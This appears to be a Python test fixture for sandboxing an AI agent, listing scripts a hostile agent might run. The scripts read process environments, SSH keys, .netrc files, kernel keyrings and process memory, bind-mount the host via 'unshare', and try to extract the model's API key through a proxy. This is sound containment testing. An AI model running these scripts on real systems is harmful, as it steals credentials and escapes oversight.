"""What a hostile agent tries to get at. Each script calls `steal` with whatever it finds.

It finds the places in `AT` (paths, ports, names; never a secret), and may try anything. All are real programs.
"""

from __future__ import annotations

PREAMBLE = """
import ctypes, glob, json, os, re, socket, subprocess, sys, time, urllib.request
from contextlib import suppress
from pathlib import Path
AT = json.loads(Path(sys.argv[1]).read_text())
def steal(what):
    data = what if isinstance(what, bytes) else str(what).encode()
    with open(AT["tree"] + "/loot", "ab") as file:
        file.write(data[:1_000_000] + b"\\n")
def read(*places):
    for place in places:
        with suppress(OSError):
            steal(Path(place).read_bytes())
def ask(address, said=b"give\\n"):
    with suppress(OSError), socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET) as one:
        one.settimeout(2)
        one.connect(address)
        one.sendall(said)
        steal(one.recv(10_000))
Path(AT["tree"], "tried").touch()
"""

THEFTS: dict[str, str] = {
    "its own environment": "steal(dict(os.environ))",
    "environments of all processes": """
for place in glob.glob("/proc/[0-9]*/environ"): read(place)
""",
    "command lines of all processes": """
for place in glob.glob("/proc/[0-9]*/cmdline"): read(place)
""",
    "the environment of its parents": """
pid = os.getppid()
for _ in range(6):
    read(f"/proc/{pid}/environ")
    with suppress(OSError, IndexError): pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
""",
    "the keys of the user": """
read(*(AT["home"] + "/" + name for name in (".netrc", ".ssh/id_ed25519", ".config/gh/hosts.yml")))
""",
    "the user's git configuration": """
read(AT["home"] + "/.gitconfig")
steal(subprocess.run(["git", "config", "--list", "--file", AT["home"] + "/.gitconfig"], capture_output=True).stdout)
""",
    "the configuration of the mirror": 'read(AT["mirror"] + "/config")',
    "the tree of another attempt": 'read(AT["other"] + "/notes.txt")',
    "the state of the orchestrator": 'read(AT["state"] + "/secret.json")',
    "everything below the folder of the tests": """
for folder, _, names in os.walk(AT["root"]):
    for name in names: read(os.path.join(folder, name))
""",
    "files through the roots of other processes": """
for place in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    read(place + AT["home"] + "/.netrc")
""",
    "open files of other processes": """
for place in glob.glob("/proc/[0-9]*/fd/*"):
    with suppress(OSError):
        if AT["root"] in os.readlink(place): read(place)
""",
    "the memory of a process of the host": """
libc = ctypes.CDLL(None, use_errno=True)
with suppress(OSError), open(f"/proc/{AT['bait']}/maps") as maps:
    for line in maps:
        span, flags, *_ = line.split()
        first, last = (int(part, 16) for part in span.split("-"))
        if flags.startswith("rw") and last - first < 4_000_000:
            with suppress(OSError, ValueError), open(f"/proc/{AT['bait']}/mem", "rb") as memory:
                memory.seek(first)
                steal(b"\\n".join(re.findall(rb"CANARY-[\\w-]+", memory.read(last - first))))
""",
    "a hard link to a key": """
with suppress(OSError):
    os.link(AT["home"] + "/.netrc", AT["tree"] + "/linked")
read(AT["tree"] + "/linked")
""",
    "a namespace of its own to mount the host in": """
found = subprocess.run(["unshare", "-Urm", "sh", "-c", f"mount --bind / /mnt; cat /mnt{AT['home']}/.netrc "
                        f"{AT['home']}/.netrc"], capture_output=True)
steal(found.stdout)
""",
    "the kernel's keyring": """
libc, number = ctypes.CDLL(None, use_errno=True), {"x86_64": 250, "aarch64": 219}[os.uname().machine]
for ring in (-2, -3, -4, -5):
    key = libc.syscall(number, 10, ctypes.c_int(ring), b"user", AT["key"].encode(), 0)
    if key > 0:
        found = ctypes.create_string_buffer(200)
        libc.syscall(number, 11, key, found, 200)
        steal(found.value)
""",
    "a service on loopback": 'ask(("127.0.0.1", AT["port"]))',
    "a service on another address of the host": """
with suppress(OSError):
    ask((socket.gethostbyname(socket.gethostname()), AT["port"]))
for address in ("0.0.0.0", "127.0.1.1"): ask((address, AT["port"]))
""",
    "a service on a Unix socket": 'ask(AT["socket"])',
    "a service on a socket without a file": 'ask("\\0" + AT["abstract"])',
    "the key of the model, from its proxy": """
class Raw(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_): return None
def call(path, **headers):
    given = {"x-api-key": os.environ.get("ANTHROPIC_API_KEY", ""), "content-type": "application/json"} | headers
    body = json.dumps({"model": "echo", "messages": []}).encode()
    with suppress(OSError):
        asked = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + path, body, given)
        steal(urllib.request.build_opener(Raw).open(asked, timeout=5).read())
call("/v1/messages"); call("/v1/messages", Host="evil.example"); call("/debug"); call("/v1/files")
""",
}
"""Name of a theft to its script."""
